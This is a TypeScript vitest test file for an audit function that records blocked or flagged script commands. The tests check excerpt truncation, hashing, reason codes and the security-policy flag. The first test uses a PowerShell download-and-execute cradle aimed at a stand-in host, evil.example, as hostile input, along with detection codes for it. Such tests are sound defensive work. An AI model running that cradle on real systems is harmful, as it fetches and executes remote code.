import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCRIPT_LOG_EXCERPT_CHARS, SCRIPT_LOG_REASON_TEXT_CHARS } from '../../shared/api/audit';
import { sha256Hex } from '../../shared/policy/hash';
import type { ServerContext } from '../context';
import { openMemoryContext } from '../test/memory-context';
import type { DatabaseHandle } from '../db/database';
import { recordScriptLog } from './script-logs';
import { addAuditSink, type AuditRecord } from './sinks';

let database: DatabaseHandle;
let ctx: ServerContext;

beforeAll(async () => {
  ({ ctx, database } = await openMemoryContext());
});
afterAll(async () => {
  await database?.close();
});

const tenantId = '00000000-0000-4000-8000-000000000001';

describe('recordScriptLog', () => {
  it('stores a bounded excerpt, the full text hash, reason codes and the security-policy flag', async () => {
    const published: AuditRecord[] = [];
    const remove = addAuditSink(ctx, (record) => published.push(record));
    const hostile = 'iex (irm http://evil.example/x) ' + 'A'.repeat(100_000) + '\u0000 end';
    const { id } = await recordScriptLog(ctx, {
      tenantId,
      endpointId: 'endpoint-1',
      userId: null,
      kind: 'terminal_line',
      text: hostile,
      decision: 'block',
      reasons: [
        {
          code: 'download_execute',
          severity: 'block',
          ruleId: 'dl.ps.cradle',
          message: 'x'.repeat(5000),
          spans: [
            { start: 0, end: 3 },
            { start: 90_000, end: 90_010 },
          ],
        },
        { code: 'blocked_destination', message: 'evil.example is blocked', spans: [{ start: 9, end: 31 }] },
      ],
      meta: { ip: '192.0.2.7', userAgent: 'test' },
    });
    remove();
    const row = await ctx.db.selectFrom('script_logs').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.text_excerpt.length).toBe(SCRIPT_LOG_EXCERPT_CHARS);
    expect(row.excerpt_truncated).toBe(true);
    expect(row.text_length).toBe(hostile.length);
    expect(row.text_sha256).toBe(sha256Hex(hostile));
    expect(row.decision).toBe('block');
    expect(row.was_blocked_by_security_policy).toBe(true);
    expect(row.reason_codes).toEqual(['download_execute', 'blocked_destination']);
    expect(row.reason_text.length).toBeLessThanOrEqual(SCRIPT_LOG_REASON_TEXT_CHARS);
    const reasons = row.reasons as unknown as { spans: { start: number; end: number }[]; message: string }[];
    // The span beyond the excerpt is dropped; the message is bounded.
    expect(reasons[0]!.spans).toEqual([{ start: 0, end: 3 }]);
    expect(reasons[0]!.message.length).toBe(500);
    expect(published.map((record) => [record.source, record.action, record.reasonCodes])).toEqual([
      ['script', 'script.block', ['download_execute', 'blocked_destination']],
    ]);
  });

  it('stores NUL and lone surrogates (hostile text never makes the record fail)', async () => {
    const text = 'echo \u0000 \uD800 done';
    const { id } = await recordScriptLog(ctx, {
      tenantId,
      endpointId: null,
      userId: null,
      kind: 'command',
      text,
      decision: 'flag',
      reasons: [{ code: 'persistence', message: 'bad \u0000 \uDC00' }],
    });
    const row = await ctx.db.selectFrom('script_logs').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.text_excerpt).toBe('echo \uFFFD \uFFFD done');
    expect(row.text_sha256).toBe(sha256Hex(text));
    expect(row.was_blocked_by_security_policy).toBe(false);
  });

  it('a block for a tenant limit is not a security-policy block', async () => {
    const { id } = await recordScriptLog(ctx, {
      tenantId,
      endpointId: null,
      userId: null,
      kind: 'command',
      text: 'hostname',
      decision: 'block',
      reasons: [{ code: 'dispatch_limit', message: 'Too many dispatches this minute' }],
    });
    const row = await ctx.db.selectFrom('script_logs').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.was_blocked_by_security_policy).toBe(false);
    expect(row.reason_codes).toEqual(['dispatch_limit']);
  });
});
